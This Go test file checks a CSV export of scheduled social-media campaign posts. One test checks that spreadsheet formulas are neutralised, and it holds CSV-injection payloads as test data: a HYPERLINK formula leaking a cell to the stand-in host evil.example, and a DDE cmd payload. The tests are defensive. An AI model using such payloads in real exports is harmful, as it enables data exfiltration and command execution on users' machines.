package bundle

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/campaignkit/campaignkit/toolkit"
)

// csvManifest is testManifest with every card also in the linkedin,
// facebook and instagram-portrait sizes, so each platform has its image,
// and with posts that also go to the outbox, or only to the outbox and a
// webhook.
func csvManifest() *Manifest {
	m := testManifest()
	sizes := map[string][2]int{"linkedin": {1200, 627}, "facebook": {1200, 630}, "instagram-portrait": {1080, 1350}}
	for _, img := range slices.Clone(m.Images) {
		if img.Preset != "x" {
			continue
		}
		for _, name := range []string{"facebook", "instagram-portrait", "linkedin"} {
			more := img
			more.Preset, more.Width, more.Height = name, sizes[name][0], sizes[name][1]
			more.Path = strings.TrimSuffix(img.Path, "x.png") + name + ".png"
			m.Images = append(m.Images, more)
		}
	}
	m.Posts[0].Channels = append(m.Posts[0].Channels, "outbox")
	m.Posts = append(m.Posts, Post{
		ID: "p-en-3", At: "2026-12-18T11:00:00Z", Local: "2026-12-18T11:00", Timezone: "Europe/London",
		Channels: []string{"outbox", "webhook"}, Lang: "en", Card: "stat-migrants",
		Images: []string{}, Captions: map[string]string{"x": "Only for the team's own tools."},
	})
	return m
}

func TestPostsCSV(t *testing.T) {
	m := csvManifest()
	data := PostsCSV(m)
	if bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Error("posts.csv starts with a byte order mark")
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
		t.Error("posts.csv has line endings other than CRLF")
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("posts.csv does not read back: %v", err)
	}
	header := []string{"scheduled_at", "local_time", "timezone", "platform", "language", "card", "text",
		"image", "image_width", "image_height", "alt_text", "post_id"}
	if !slices.Equal(rows[0], header) {
		t.Fatalf("header %q, want %q", rows[0], header)
	}
	col := func(r []string, name string) string { return r[slices.Index(header, name)] }
	byPath := map[string]Image{}
	for _, img := range m.Images {
		byPath[img.Path] = img
	}
	var order []string
	for _, r := range rows[1:] {
		if len(r) != len(header) {
			t.Fatalf("row %q has %d cells, want %d", r, len(r), len(header))
		}
		id, platform := col(r, "post_id"), col(r, "platform")
		order = append(order, col(r, "scheduled_at")+" "+id+" "+platform)
		// the image is the post's card in the platform's size, with that
		// size and the one alt text of that image
		preset := toolkit.PresetForChannel(platform)
		img, ok := byPath[col(r, "image")]
		if !ok {
			t.Errorf("%s on %s: image %q is not in the manifest", id, platform, col(r, "image"))
			continue
		}
		if img.Preset != preset.Name || img.Card != col(r, "card") || img.Lang != col(r, "language") {
			t.Errorf("%s on %s: image %s is %s %s in %s, want the post's card in %s", id, platform, img.Path, img.Card, img.Lang, img.Preset, preset.Name)
		}
		if got, want := col(r, "image_width")+"x"+col(r, "image_height"), fmt.Sprintf("%dx%d", preset.Width, preset.Height); got != want {
			t.Errorf("%s on %s: image size %s, want %s", id, platform, got, want)
		}
		if got := col(r, "alt_text"); got != img.Alt || got == "" || strings.Contains(got, " | ") {
			t.Errorf("%s on %s: alt text %q, want the image's one alt text %q", id, platform, got, img.Alt)
		}
		p := m.Posts[slices.IndexFunc(m.Posts, func(p Post) bool { return p.ID == id })]
		if got := col(r, "text"); got != p.Captions[platform] {
			t.Errorf("%s on %s: text %q, want %q", id, platform, got, p.Captions[platform])
		}
		if col(r, "scheduled_at") != p.At || col(r, "local_time") != p.Local || col(r, "timezone") != p.Timezone {
			t.Errorf("%s on %s: time %q %q %q, want %s %s %s", id, platform, col(r, "scheduled_at"), col(r, "local_time"), col(r, "timezone"), p.At, p.Local, p.Timezone)
		}
	}
	// one row per post and platform among its channels, in time order and
	// campaign.Platforms order; none for outbox or webhook
	wantOrder := []string{
		"2026-12-16T18:30:00Z p-en-2 threads", "2026-12-16T18:30:00Z p-en-2 instagram",
		"2026-12-17T12:00:00Z p-zh-1 x", "2026-12-17T12:00:00Z p-zh-1 linkedin",
		"2026-12-18T09:00:00Z p-en-1 x", "2026-12-18T09:00:00Z p-en-1 bluesky", "2026-12-18T09:00:00Z p-en-1 mastodon",
		"2026-12-18T10:00:00Z p-ar-1 x", "2026-12-18T10:00:00Z p-ar-1 facebook",
	}
	if !slices.Equal(order, wantOrder) {
		t.Errorf("rows\n got %q\nwant %q", order, wantOrder)
	}
	if again := PostsCSV(m); !bytes.Equal(data, again) {
		t.Error("the same manifest gave two different posts.csv")
	}
}

// TestPostsCSVAltOfPost: a post's own alt text for an image wins over the
// manifest's, and a platform whose size the bundle lacks gets empty image
// cells rather than another size's image.
func TestPostsCSVAltOfPost(t *testing.T) {
	m := testManifest()
	m.Posts = m.Posts[2:3] // p-zh-1: x and linkedin; no linkedin image in testManifest
	m.Posts[0].Images = []string{"cards/zh/stat-migrants/x.png"}
	m.Posts[0].Alt = []string{"统计卡片。"}
	rows, err := csv.NewReader(bytes.NewReader(PostsCSV(m))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"x", "cards/zh/stat-migrants/x.png", "1600", "900", "统计卡片。"},
		{"linkedin", "", "", "", ""},
	}
	var got [][]string
	for _, r := range rows[1:] {
		got = append(got, []string{r[3], r[7], r[8], r[9], r[10]})
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestPostsCSVNeutralisesFormulas: a cell a spreadsheet would run as a
// formula (starting with =, +, -, @, tab or carriage return) is written
// with a single quote in front; other cells are left alone.
func TestPostsCSVNeutralisesFormulas(t *testing.T) {
	m := testManifest()
	p := &m.Posts[0] // p-en-1: x, bluesky, mastodon
	p.Captions["x"] = `=HYPERLINK("https://evil.example/?leak="&A1,"Migrants Day")`
	p.Captions["bluesky"] = "@handle: today is International Migrants Day"
	p.Captions["mastodon"] = "-5 days, then #MigrantsDay"
	q := &m.Posts[1] // p-ar-1: x, facebook
	q.Captions["x"] = "+1 for every partner"
	q.Captions["facebook"] = "\tindented"
	p.Card = "=cmd|' /C calc'!A0"
	rows, err := csv.NewReader(bytes.NewReader(PostsCSV(m))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	for _, r := range rows[1:] {
		got[r[11]+" "+r[3]] = r
	}
	for _, tt := range []struct {
		row  string
		col  int
		want string
	}{
		{"p-en-1 x", 6, `'=HYPERLINK("https://evil.example/?leak="&A1,"Migrants Day")`},
		{"p-en-1 bluesky", 6, "'@handle: today is International Migrants Day"},
		{"p-en-1 mastodon", 6, "'-5 days, then #MigrantsDay"},
		{"p-en-1 x", 5, "'=cmd|' /C calc'!A0"},
		{"p-ar-1 x", 6, "'+1 for every partner"},
		{"p-ar-1 facebook", 6, "'\tindented"},
		{"p-zh-1 x", 6, m.Posts[2].Captions["x"]},
		{"p-en-1 x", 0, "2026-12-18T09:00:00Z"},
	} {
		r, ok := got[tt.row]
		if !ok {
			t.Errorf("no row %s", tt.row)
			continue
		}
		if r[tt.col] != tt.want {
			t.Errorf("%s, %s: got %q, want %q", tt.row, rows[0][tt.col], r[tt.col], tt.want)
		}
	}
	if got := csvCell("\r\n=1+1"); got != "'\r\n=1+1" {
		t.Errorf("csvCell of a cell starting with a carriage return: got %q", got)
	}
}

func imageIndex(m *Manifest, path string) int {
	return slices.IndexFunc(m.Images, func(img Image) bool { return img.Path == path })
}
